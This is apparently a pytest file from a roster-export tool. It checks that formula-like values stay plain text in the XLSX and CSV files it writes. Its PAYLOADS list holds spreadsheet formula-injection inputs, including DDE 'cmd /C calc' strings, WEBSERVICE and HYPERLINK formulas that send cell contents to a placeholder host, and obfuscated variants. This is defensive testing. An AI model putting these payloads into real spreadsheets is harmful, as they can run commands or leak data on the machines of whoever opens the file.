"""What looks like a formula stays text in every roster handed out (RELIABILITY R16, A6)."""

import csv
import re
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from retiree_desk.services.desk import Desk
from tests.safety.verbs import answers

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"点此")', "=1+1;=cmd|'/C calc'!A1",
    '=IMPORTXML("http://x.example","//a")',
    '=WEBSERVICE("http://x.example/"&A2)', '=DDE("cmd";"/C calc";"x")',
    "=SUM(A1:A9)", "={1}", "==1", "=", "+1+1", "+cmd|' /C calc'!A0", "+SUM(1)", "-1+1", "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@cmd|' /C calc'!A0", " =1+1", "  =cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", "\n=1+1", "\ufeff=1+1", "\u200b=1+1", "\u3000=1+1", "\xa0=1+1", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(1)", '"=1+1', "'=1+1", ";=1+1", ",=1+1", "张三\n=1+1", '张三",=1+1', "%0A=1+1", "=\0cmd", "\v=1+1",
    "\x1f=1+1",
]  # fmt: skip
READABLE = ["+86 13800001234", "+8613800001234", "-", "138-0000-1234", "(022)2591-2345"]
# What a spreadsheet takes for the beginning of a formula, blanks and marks before it passed over.
RISKY = re.compile(r"^[\s\ufeff\u200b\u3000\xa0\x00-\x20]*[=+\-@＝＋－＠]")
COLUMNS = "name,former_name,remark,post,mobile,home_address,emergency_contact,party_branch"


@pytest.fixture(scope="module")
def payload_office(sample: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    path = tmp_path_factory.mktemp("payloads") / "office.rdesk"
    path.write_bytes((sample / "office.rdesk").read_bytes())
    desk = Desk.open(path, today=lambda: date(2026, 11, 2))
    for text in PAYLOADS:
        fields = (
            "name",
            "former_name",
            "remark",
            "post",
            "home_address",
            "emergency_contact",
            "party_branch",
        )
        desk.registry.add(dict.fromkeys(fields, text))
    for text in READABLE:
        desk.registry.add({"name": "电话", "mobile": text})
    desk.registry.add({"name": "王小二", "employee_no": "B77", "remark": "=SUM(A1:A9)", "post": "@班长"})
    desk.close()
    yield path


def written(office: Path, out: Path, *options: str) -> Path:
    (answer,) = answers([("--json", "--db", office, "roster", out, "--full", "--columns", COLUMNS, *options)])
    answer.check(0, 1)
    return out


@pytest.mark.parametrize("options", [(), ("--codes",)])
def test_workbook(payload_office: Path, tmp_path: Path, options: tuple[str, ...]) -> None:
    out = written(payload_office, tmp_path / "花名册.xlsx", *options)
    book = openpyxl.load_workbook(out)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if cell.hyperlink]
    texts = {str(cell.value) for cell in cells}
    for payload in ("=1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+86 13800001234", "-"):
        assert payload in texts
    with zipfile.ZipFile(out) as package:
        sheets = [package.read(name) for name in package.namelist() if "/worksheets/" in name]
        assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
        assert not [
            name for name in package.namelist() if "external" in name.lower() or "vba" in name.lower()
        ]


def test_csv(payload_office: Path, tmp_path: Path) -> None:
    out = written(payload_office, tmp_path / "花名册.csv")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as lines:
        rows = list(csv.reader(lines))
    assert len(rows) > len(PAYLOADS) + len(READABLE)
    risky = [cell for row in rows[1:] for cell in row if RISKY.match(cell) and cell not in READABLE]
    assert risky == []
    assert {row[4] for row in rows} >= set(READABLE)


def test_a_roster_reads_back_as_it_was(payload_office: Path, tmp_path: Path) -> None:
    """The apostrophe of the csv is for spreadsheets: an import takes it off again."""
    out = written(payload_office, tmp_path / "花名册.csv", "--where", "name=王小二")
    fresh = tmp_path / "fresh.rdesk"
    imported, shown = answers(
        [("--json", "--db", fresh, "import", out), ("--json", "--db", fresh, "show", "1")]
    )
    imported.check(0)
    shown.check(0)
    assert '"remark": "=SUM(A1:A9)"' in shown.out
    assert '"post": "@班长"' in shown.out
